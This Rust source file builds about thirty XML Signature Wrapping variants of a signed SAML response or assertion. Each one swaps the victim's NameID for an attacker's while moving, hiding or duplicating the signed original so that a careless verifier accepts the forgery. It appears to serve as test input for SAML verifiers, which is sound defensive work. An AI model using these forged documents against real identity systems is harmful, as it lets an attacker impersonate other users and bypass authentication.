//! Signature wrapping: a signed element is kept, and an unsigned one is put where
//! a careless reader looks ("On Breaking SAML", 2012, and what came after).

/// A document with a name for it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attack {
    pub name: &'static str,
    pub xml: String,
}

/// Wraps a response whose assertion is signed. `victim` is the NameID in it, `attacker` the one
/// that shall be taken.
pub fn wrapped_assertions(signed: &str, victim: &str, attacker: &str) -> Vec<Attack> {
    let Some((before, original, after)) = cut(signed, "saml:Assertion") else { return Vec::new() };
    let Some((head, signature, tail)) = cut(original, "ds:Signature") else { return Vec::new() };
    let bare = format!("{head}{tail}");
    let evil = replace_id(&bare, "_evil").replace(victim, attacker);
    let twin = bare.replace(victim, attacker);
    let with = |assertion: &str, markup: &str| insert_after_issuer(assertion, markup);
    let inside = |assertion: &str, markup: &str| insert_before_end(assertion, "saml:Assertion", markup);
    let in_signature = insert_before_end(signature, "ds:Signature", &bare);
    let in_object = insert_before_end(signature, "ds:Signature", &format!("<ds:Object>{bare}</ds:Object>"));
    let in_extensions =
        |markup: &str| insert_after_issuer(before, &format!("<samlp:Extensions>{markup}</samlp:Extensions>"));
    let document = |assertions: String| format!("{before}{assertions}{after}");
    let advice = |assertion: &str, markup: &str| {
        assertion.replacen("</saml:Conditions>", &format!("</saml:Conditions><saml:Advice>{markup}</saml:Advice>"), 1)
    };
    vec![
        attack("XSW3: evil assertion before", document(format!("{evil}{original}"))),
        attack("evil assertion last", document(format!("{original}{evil}"))),
        attack("XSW4: original inside evil", document(inside(&evil, original))),
        attack("XSW5: evil takes the signature, original last", document(format!("{}{bare}", with(&evil, signature)))),
        attack("XSW6: original inside the signature of evil", document(with(&evil, &in_signature))),
        attack("XSW7: evil in Extensions", format!("{}{original}{after}", in_extensions(&evil))),
        attack("original in Extensions, evil in its place", format!("{}{evil}{after}", in_extensions(original))),
        attack("XSW8: original in an Object of the signature of evil", document(with(&evil, &in_object))),
        attack("original in the Advice of evil", document(advice(&evil, original))),
        attack(
            "original in an attribute value of evil",
            document(inside(
                &evil,
                &format!(
                    "<saml:AttributeStatement><saml:Attribute Name=\"x\"><saml:AttributeValue>{original}</saml:AttributeValue>\
             </saml:Attribute></saml:AttributeStatement>"
                ),
            )),
        ),
        attack("evil with the same ID before", document(format!("{twin}{original}"))),
        attack("evil with the same ID last", document(format!("{original}{twin}"))),
        attack("evil with the same ID and the signature", document(format!("{}{bare}", with(&twin, signature)))),
        attack("signature moved to an evil sibling", document(format!("{bare}{}", with(&evil, signature)))),
        attack("signature moved to the response", insert_after_issuer(&document(evil.clone()), signature)),
        attack("evil assertion alone, signature removed", document(evil.clone())),
        attack("evil assertion with the stolen signature", document(with(&evil, signature))),
        attack("two signatures in one assertion", document(with(&with(&evil, signature), signature))),
    ]
}

/// Wraps a response that is itself signed.
pub fn wrapped_responses(signed: &str, victim: &str, attacker: &str) -> Vec<Attack> {
    wrapped_messages("samlp:Response", signed, victim, attacker)
}

/// The same for a message whose root has this name.
pub fn wrapped_messages(root: &str, signed: &str, victim: &str, attacker: &str) -> Vec<Attack> {
    let Some((head, signature, tail)) = cut(signed, "ds:Signature") else { return Vec::new() };
    let bare = format!("{head}{tail}");
    // Every ID in it is another one: no two are alike for a check of IDs to find.
    let evil = bare.replace(" ID=\"", " ID=\"_evil").replace(victim, attacker);
    let twin = bare.replace(victim, attacker);
    let in_signature = insert_before_end(signature, "ds:Signature", &bare);
    let in_object = insert_before_end(signature, "ds:Signature", &format!("<ds:Object>{bare}</ds:Object>"));
    let extensions = |markup: &str| format!("<samlp:Extensions>{markup}</samlp:Extensions>");
    vec![
        attack("XSW1: original message inside the signature", insert_after_issuer(&evil, &in_signature)),
        attack(
            "XSW2: original message before the signature",
            insert_after_issuer(&evil, &format!("{bare}{signature}")),
        ),
        attack(
            "original message in Extensions, signature outside",
            insert_after_issuer(&evil, &format!("{signature}{}", extensions(&bare))),
        ),
        attack("signed message in Extensions", insert_after_issuer(&evil, &extensions(signed))),
        attack("signed message last", insert_before_end(&evil, root, signed)),
        attack("original message in an Object", insert_after_issuer(&evil, &in_object)),
        attack("evil message with the stolen signature", insert_after_issuer(&evil, signature)),
        attack("evil message with the same ID", insert_after_issuer(&twin, signature)),
        attack(
            "evil message holds the one of the same ID",
            insert_after_issuer(&twin, &format!("{signature}{}", extensions(&bare))),
        ),
        attack(
            "two signatures",
            insert_after_issuer(&bare.replace(victim, attacker), &format!("{signature}{signature}")),
        ),
        attack("decoy signature with a payload", insert_after_issuer(signed, &in_object.replace(victim, attacker))),
        attack("signature at the end", insert_before_end(&bare, root, signature)),
        attack("signature before the issuer", bare.replacen("<saml:Issuer", &format!("{signature}<saml:Issuer"), 1)),
        attack("signature removed", evil),
        attack("two documents", format!("{signed}{}", twin)),
    ]
}

fn attack(name: &'static str, xml: String) -> Attack {
    Attack { name, xml }
}

/// Text before the first element of this name, the element, and the text behind it.
fn cut<'a>(xml: &'a str, name: &str) -> Option<(&'a str, &'a str, &'a str)> {
    let start = xml.find(&format!("<{name} "))?;
    let close = format!("</{name}>");
    let end = start + xml.get(start..)?.find(&close)? + close.len();
    Some((xml.get(..start)?, xml.get(start..end)?, xml.get(end..)?))
}

fn insert_after_issuer(xml: &str, markup: &str) -> String {
    xml.replacen("</saml:Issuer>", &format!("</saml:Issuer>{markup}"), 1)
}

fn insert_before_end(xml: &str, name: &str, markup: &str) -> String {
    let close = format!("</{name}>");
    match xml.rfind(&close) {
        Some(at) => {
            let (head, tail) = xml.split_at(at);
            format!("{head}{markup}{tail}")
        }
        None => xml.to_owned(),
    }
}

/// Another ID for the outermost element.
fn replace_id(xml: &str, id: &str) -> String {
    let Some(start) = xml.find("ID=\"") else { return xml.to_owned() };
    let (head, rest) = xml.split_at(start + 4);
    match rest.split_once('"') {
        Some((_, tail)) => format!("{head}{id}\"{tail}"),
        None => xml.to_owned(),
    }
}
